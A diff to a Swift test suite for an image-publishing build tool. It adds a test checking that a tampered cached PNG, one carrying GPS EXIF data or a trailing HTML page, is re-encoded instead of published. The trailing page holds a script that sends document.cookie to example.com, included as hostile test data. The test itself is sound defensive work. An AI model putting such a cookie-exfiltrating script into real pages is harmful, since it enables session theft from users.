@@ -144,6 +144,76 @@ struct ImagePublishingTests {
         #expect(try project.files(of: "second") == project.files(of: "first"))
     }
 
+    /// A variants file's entries: type, width, height and bytes.
+    static func entries(of file: Data) throws -> [(type: String, width: Int, height: Int, bytes: Data)] {
+        let blank = try #require(file.firstRange(of: Data("\n\n".utf8)))
+        let lines = String(decoding: file[..<blank.lowerBound], as: UTF8.self).split(separator: "\n").dropFirst()
+        var offset = blank.upperBound
+        return lines.map { line in
+            let fields = line.split(separator: " ")
+            let length = Int(fields[3])!
+            defer { offset += length }
+            return (String(fields[0]), Int(fields[1])!, Int(fields[2])!, file[offset..<offset + length])
+        }
+    }
+
+    static func variantsFile(_ entries: [(type: String, width: Int, height: Int, bytes: Data)]) -> Data {
+        let lines = entries.map { "\($0.type) \($0.width) \($0.height) \($0.bytes.count)\n" }.joined()
+        return Data("sab-onboarding image variants 1\n\(lines)\n".utf8) + entries.reduce(Data()) { $0 + $1.bytes }
+    }
+
+    /// Another picture of the same type and size as a cached variant, with an EXIF chunk
+    /// holding a GPS position and an HTML page after its end: it must not be published. The
+    /// build made it again, and says why the cached copy was not used.
+    @Test func aCachedPictureWithGPSOrAnHTMLTailIsMadeAgainWithANote() throws {
+        // 480×640, half-transparent blue: its fallback is a PNG.
+        func picture(_ rgba: [UInt8]) -> Data {
+            PNGChunks.image(width: 480, height: 640, colorType: 6) { _ in Data((0..<480).flatMap { _ in rgba }) }
+        }
+        let source = FileManager.default.temporaryDirectory.appendingPathComponent("sab-translucent-\(UUID().uuidString).png")
+        try picture([0, 0, 255, 128]).write(to: source)
+        defer { try? FileManager.default.removeItem(at: source) }
+        let project = try Project(images: ["house.png": source])
+        #expect(try project.build(into: "first").status == 0)
+        let cacheFolder = project.cache.appendingPathComponent("sab-onboarding/images")
+        let names = try FileManager.default.contentsOfDirectory(atPath: cacheFolder.path).filter { $0.hasSuffix(".variants") }
+        try #require(names.count == 1, "\(names)")
+        let cacheFile = cacheFolder.appendingPathComponent(names[0])
+        let cached = try Self.entries(of: try Data(contentsOf: cacheFile))
+        let fallback = try #require(cached.last)
+        #expect(fallback.type == "image/png")
+        // Another picture of the fallback's size: green. An eXIf chunk after its header.
+        #expect(fallback.width == 480 && fallback.height == 640)
+        let green = picture([0, 200, 0, 255])
+        let exif = PNGChunks.chunk("eXIf", Data("MM\0*GPSLatitude 51 30 N PhoneMaker".utf8))
+        let withGPS = green.prefix(33) + exif + green.dropFirst(33)
+        let page = Data("<html><script>fetch('https://example.com/?'+document.cookie)</script></html>".utf8)
+        for (poisoned, reason) in [
+            (withGPS + page, "has \(page.count) bytes after its end"), (withGPS, "holds a 'eXIf' chunk"),
+            (green + page, "has \(page.count) bytes after its end"),
+        ] {
+            try Self.variantsFile(Array(cached.dropLast()) + [(fallback.type, fallback.width, fallback.height, poisoned)]).write(to: cacheFile)
+            let again = try project.build(into: "again")
+            #expect(again.status == 0, "\(again.standardError)")
+            #expect(again.standardOutput.hasSuffix("(images: 1 encoded, 0 reused from the cache)\n"), "\(again.standardOutput)")
+            #expect(
+                again.standardError.contains(
+                    "app.appDef:3:60: note: the cached sizes of 'house.png' were not used, and were made again: the 480-pixel PNG \(reason)"),
+                "\(again.standardError)")
+            #expect(again.standardError.contains("[image-cache-not-used]"))
+            let files = try project.files(of: "again")
+            #expect(files == (try project.files(of: "first")))
+            for (path, bytes) in files {
+                for marker in ["PhoneMaker", "GPSLatitude", "document.cookie"] { #expect(bytes.range(of: Data(marker.utf8)) == nil, "\(path) holds \(marker)") }
+            }
+            try FileManager.default.removeItem(at: project.folder.appendingPathComponent("again"))
+        }
+        // What the build wrote back is its own, and is used.
+        let warm = try project.build(into: "warm")
+        #expect(warm.standardOutput.hasSuffix("(images: 0 encoded, 1 reused from the cache)\n"), "\(warm.standardOutput)")
+        #expect(!warm.standardError.contains("image-cache-not-used"), "\(warm.standardError)")
+    }
+
     @Test func aLowerQualityGivesSmallerFiles() throws {
         let project = try Project(images: ["rain.jpg": Self.samples.appendingPathComponent("RainAndFloods.jpg")])
         #expect(try project.build(into: "high", ["--image-quality", "95"]).status == 0)
